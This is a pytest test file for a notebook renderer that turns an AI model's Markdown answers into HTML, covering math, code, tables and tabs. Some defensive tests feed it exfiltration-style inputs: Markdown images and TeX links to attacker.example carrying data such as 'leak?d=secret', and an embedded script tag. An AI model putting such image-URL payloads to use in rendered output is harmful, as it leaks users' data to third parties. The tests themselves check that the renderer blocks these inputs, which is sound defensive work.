"""The renderer as a pure function: tables of Markdown in, HTML facts out (math as
MathML, code highlighted, remote images as links, tabs and their fallbacks)."""

from __future__ import annotations

import base64
import io
import json
import re
from html.parser import HTMLParser

import pytest

from qwen_nb._types import PreparedImage, QwenResponse, Usage
from qwen_nb.render import (
    code_html,
    inert_markdown,
    markdown_html,
    markdown_text,
    math_html,
    plain_text,
    static_bundle,
    tabs_html,
    thinking_label,
)


class _Tree(HTMLParser):
    """Tags with attributes, and the text inside <annotation> and outside all math."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.stack: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag not in ("img", "input", "br", "hr"):
            self.stack.append(tag)

    def handle_endtag(self, tag):
        while self.stack and self.stack.pop() != tag:
            pass

    def handle_data(self, data):
        if "math" not in self.stack:
            self.text.append(data)


def tree(markup: str) -> _Tree:
    parsed = _Tree()
    parsed.feed(markup)
    return parsed


def maths(markup: str) -> list[str]:
    """Every <math> element in `markup`, in order."""
    return re.findall(r"<math(?: display=\"block\")?>.*?</math>", markup)


@pytest.mark.parametrize(("source", "expected"), [
    ("Inline $E=mc^2$ here.", [("inline", "E=mc^2")]),
    ("Display:\n\n$$\\int_0^1 x\\,dx$$\n", [("block", "\\int_0^1 x\\,dx")]),
    ("Brackets \\(a^2+b^2\\) inline.", [("inline", "a^2+b^2")]),
    ("\\[\n\\mathbf{A}\\mathbf{x} = \\mathbf{b}\n\\]\n",
     [("block", "\\mathbf{A}\\mathbf{x} = \\mathbf{b}")]),
    ("Mid-line \\[ x_1 \\] display.", [("block", "x_1")]),
    ("Both $x$ and \\(y\\) and $$z$$.", [("inline", "x"), ("inline", "y"), ("block", "z")]),
    ("- item with \\(k\\)\n- and $$m$$", [("inline", "k"), ("block", "m")]),
    ("> quoted \\[q\\]", [("block", "q")]),
])
def test_math_in_every_delimiter_becomes_mathml(source, expected):
    rendered = markdown_html(source)
    assert maths(rendered) == [math_html(tex, display=kind == "block")
                               for kind, tex in expected]
    assert "\\[" not in "".join(tree(rendered).text)  # no delimiter left over as text
    assert "$" not in "".join(tree(rendered).text)


@pytest.mark.parametrize("source", [
    "`$x$` and `\\(y\\)`",
    "```\n$$z$$ \\[w\\]\n```",
    "    indented \\(code\\) $v$",
    "Costs $5 and $10.",
    "escaped \\$x\\$ stays",
])
def test_math_inside_code_or_prices_stays_text(source):
    assert "<math" not in markdown_html(source)


def test_text_inside_math_is_escaped():
    rendered = math_html("a < b & \\text{<script>}", display=False)
    assert "<mo>&lt;</mo>" in rendered and "<mi>&amp;</mi>" in rendered
    assert "<mtext>&lt;script&gt;</mtext>" in rendered and "<script>" not in rendered


@pytest.mark.parametrize(("tex", "display", "markup"), [
    ("E = mc^2", False, "<math><mi>E</mi><mo>=</mo><mi>m</mi><msup><mi>c</mi><mn>2</mn>"
                        "</msup></math>"),
    ("x", True, '<math display="block"><mi>x</mi></math>'),
    ("\\frac{\\sqrt{\\pi}}{2}", False,
     "<math><mfrac><msqrt><mi>π</mi></msqrt><mn>2</mn></mfrac></math>"),
])
def test_mathml_carries_no_wrapper_or_annotation(tex, display, markup):
    # <math> is a row by itself (no outer <mrow>), and no <semantics>/<annotation> copy of
    # the TeX, which a browser never draws nor copies: it doubled a small formula's bytes.
    assert math_html(tex, display=display) == markup


@pytest.mark.parametrize("tex", [
    "\\href{https://attacker.example/x}{click}",
    "\\style{background:url(https://attacker.example/y)}{z}",
    "\\class{evil}{x}",
])
def test_mathml_keeps_no_link_style_or_class(tex):
    rendered = math_html(tex, display=True)
    for _tag, attributes in tree(rendered).tags:
        assert set(attributes) <= {"display", "stretchy", "mathvariant", "width",
                                   "fence", "separator", "lspace", "rspace", "form",
                                   "mathcolor", "columnalign", "displaystyle", "accent"}
    assert "attacker" not in rendered


def test_unconvertible_tex_falls_back_to_escaped_source():
    rendered = math_html("x" * 30_000, display=False)
    assert rendered.startswith('<span class="qwen-nb-tex">\\(') and "<math" not in rendered


def test_fenced_code_is_highlighted_with_classes_and_labelled():
    rendered = markdown_html("```python\ndef f(x):\n    return 'a'  # note\n```\n\n"
                             "```\nplain\n```\n```rust\nfn main() {}\n```")
    blocks = re.findall(r'<div class="qwen-nb-code" data-lang="([^"]*)">', rendered)
    assert blocks == ["python", "text", "rust"]
    assert '<span class="k">def</span>' in rendered
    assert '<span class="nf">f</span>' in rendered
    assert '<span class="c"># note</span>' in rendered
    assert 'style="' not in rendered  # colours come from the stylesheet, not inline
    assert '<div class="qwen-nb-code-label">python</div>' in rendered


def test_code_keeps_its_text_exactly():
    code = "if a < b and c > d:\n    print('&amp;', \"<tag>\")\n"
    rendered = code_html(code.rstrip("\n"), "python")
    text = "".join(tree(rendered).text)
    assert text == "python" + code  # the label, then the code as written


def test_an_unknown_language_is_plain_escaped_code():
    rendered = code_html("<b>x</b>", "no-such-language")
    assert "&lt;b&gt;x&lt;/b&gt;" in rendered and 'data-lang="no-such-language"' in rendered


REMOTE = [
    ("![](https://attacker.example/leak?d=secret)", "image: attacker.example/leak"),
    ("![chart][r]\n\n[r]: https://attacker.example/chart.png", "image: attacker.example/chart.png"),
    ("![a](http://attacker.example:8080/p/q.png \"t\")", "image: attacker.example:8080/p/q.png"),
]


@pytest.mark.parametrize(("source", "label"), REMOTE)
def test_remote_images_become_links_that_fetch_nothing(source, label):
    rendered = markdown_html(source)
    tags = tree(rendered).tags
    assert not [t for t, _ in tags if t == "img"]
    links = [a for t, a in tags if t == "a"]
    assert len(links) == 1
    assert links[0]["rel"] == "noreferrer" and links[0]["target"] == "_blank"
    assert links[0]["referrerpolicy"] == "no-referrer"
    assert links[0]["href"].startswith("http")
    assert label in rendered


def test_small_data_images_stay_inline_big_ones_do_not():
    small = "data:image/png;base64," + "A" * 100
    big = "data:image/png;base64," + "A" * 300_000
    assert f'<img src="{small}"' in markdown_html(f"![dot]({small})")
    assert "<img" not in markdown_html(f"![dot]({big})")
    assert "<img" not in markdown_html("![svg](data:image/svg+xml;base64,PHN2Zz4=)")


@pytest.mark.parametrize(("source", "label"), REMOTE)
def test_the_markdown_fallback_has_no_images_either(source, label):
    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark", {"html": True}).render(inert_markdown(source))
    assert "<img" not in rendered


def test_the_markdown_fallback_names_the_image_host():
    assert inert_markdown("![](https://attacker.example/a.png?d=1)") == \
        "[image: attacker.example/a.png](https://attacker.example/a.png?d=1)"


def test_links_open_in_a_new_tab_without_referrer():
    rendered = markdown_html("[docs](https://example.org) and [local](#anchor)")
    assert ('href="https://example.org" rel="noreferrer" '
            'referrerpolicy="no-referrer" target="_blank"') in rendered
    assert '<a href="#anchor">local</a>' in rendered


def test_a_data_link_is_not_a_link():
    assert "<a" not in markdown_html("[x](data:image/png;base64,AAAA)")


@pytest.mark.parametrize(("response", "label"), [
    (QwenResponse(thinking="t", thinking_seconds=12.4,
                  usage=Usage(reasoning_tokens=1234)), "Thinking · 12 s · 1,234 tokens"),
    (QwenResponse(thinking="t", thinking_seconds=2.25), "Thinking · 2.2 s"),
    (QwenResponse(thinking="t", usage=Usage(reasoning_tokens=1)), "Thinking · 1 token"),
    (QwenResponse(thinking=""), "Thinking"),
])
def test_thinking_label(response, label):
    assert thinking_label(response) == label
    assert f">{label}</label>" in tabs_html(response)
    assert f"<summary>{label}</summary>" in tabs_html(response)


def test_tabs_degrade_to_answer_then_folded_thinking_then_details():
    response = QwenResponse(answer="ANSWER-TEXT", thinking="THINKING-TEXT", complete=False,
                            error="the connection dropped")
    page = tabs_html(response)
    answer, thinking = page.index("ANSWER-TEXT"), page.index("THINKING-TEXT")
    details = page.index("Finish reason")
    assert answer < thinking < details
    # The thinking and the details are folded: closed <details> blocks.
    assert re.search(r'<details class="qwen-nb-panel qwen-nb-thinking"><summary>', page)
    assert re.search(r'<details class="qwen-nb-panel qwen-nb-details"><summary>Details', page)
    assert "<details open" not in page
    # The error is said once, in the notice, and the partial reply is kept.
    assert page.count("the connection dropped") == 1
    assert page.index("the connection dropped") < answer


def _png(colour: tuple[int, int, int], size: tuple[int, int] = (800, 600)) -> str:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "PNG")
    return "data:image/png;base64," + base64.b64encode(out.getvalue()).decode()


def test_thumbnails_of_the_images_sent_are_small_data_urls():
    sent = PreparedImage(url=_png((200, 30, 30)), source="photo", sent_size=(800, 600),
                         digest="d1")
    remote = PreparedImage(url="https://attacker.example/cat.jpg", source="url")
    page = tabs_html(QwenResponse(answer="a", images=(sent, remote)))
    images = [a for t, a in tree(page).tags if t == "img"]
    assert len(images) == 1
    assert images[0]["src"].startswith("data:image/jpeg;base64,")
    assert len(images[0]["src"]) < 4000
    assert "attacker.example/cat.jpg" in page and 'src="https://' not in page


def test_the_saved_output_stores_the_text_at_most_twice():
    answer = "word " * 40_000
    thinking = "thought " * 25_000
    data, _ = static_bundle(QwenResponse(answer=answer, thinking=thinking))
    stored = sum(len(value) for value in data.values())
    assert stored <= 2.5 * (len(answer) + len(thinking)) + 12_000
    assert len(data["text/plain"]) < 5_000
    assert answer.strip() in data["text/markdown"]


def test_the_benchmarks_math_and_code_dense_reply_meets_the_size_goal(monkeypatch):
    # benchmarks/bench_render.py's 1 MB answer (four formulas, a code block, a table, a
    # list and a link every 1.6 KB) + 200 KB thinking: 2.80x before MathML lost its TeX
    # annotation, tables and lists their optional end tags and links "noopener"; issue
    # 13's goal is 2.5x + 12 KB. Sizes are deterministic, unlike times.
    from pathlib import Path

    monkeypatch.syspath_prepend(str(Path(__file__).parents[1] / "benchmarks"))
    from bench_render import answer_text, finish, thinking_text

    answer, thinking = answer_text(1.0), thinking_text(200_000)
    _, data, metadata = finish(answer, thinking)
    stored = sum(len(value.encode()) for value in data.values()) + len(json.dumps(metadata))
    text = len(answer.encode()) + len(thinking.encode())
    assert stored <= 2.5 * text + 12 * 1024, f"{stored / text:.3f}x"


def test_markdown_output_is_answer_then_folded_thinking_with_no_style():
    text = markdown_text(QwenResponse(answer="**Bold** answer", thinking="because",
                                      thinking_seconds=3.0))
    assert text.startswith("**Bold** answer")
    assert "<details><summary>Thinking · 3.0 s</summary>" in text
    assert "<style" not in text


def test_plain_text_keeps_short_replies_whole():
    plain = plain_text(QwenResponse(answer="Short answer.", thinking="Short thought."))
    assert "Short answer." in plain and "Short thought." in plain


def test_past_the_highlight_budget_code_is_plain():
    from qwen_nb.render.code import HIGHLIGHT_BUDGET

    block = "```python\n" + "x = 1\n" * 1000 + "```\n\n"
    rendered = markdown_html(block * (HIGHLIGHT_BUDGET // 6000 + 2))
    blocks = rendered.split('<div class="qwen-nb-code"')[1:]
    assert '<span class="m">' in blocks[0] and '<span class="m">' not in blocks[-1]
    assert all('data-lang="python"' in b for b in blocks)  # still labelled


def test_tables_and_lists_are_one_line_each_without_optional_end_tags():
    source = ("| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n\n| only head |\n|---|\n\n"
              "- x\n- y\n\n1. one\n2. two\n\ntext")
    rendered = markdown_html(source)
    assert rendered.splitlines() == [
        "<table><thead><tr><th>a<th>b<tbody><tr><td>1<td>2<tr><td>3<td>4</table>",
        "<table><thead><tr><th>only head</thead></table>",  # no body: </thead> stays
        "<ul><li>x<li>y</ul>",
        "<ol><li>one<li>two</ol>",
        "<p>text</p>",
    ]


def test_the_thinking_escapes_only_what_html_needs():
    thinking = "Let's check \"this\" & <that>."
    escaped = "Let's check \"this\" &amp; &lt;that&gt;."
    response = QwenResponse(answer="ok", thinking=thinking)
    assert f'<pre class="qwen-nb-trace">{escaped}</pre>' in tabs_html(response)
    assert f"<pre>{escaped}</pre>" in markdown_text(response)
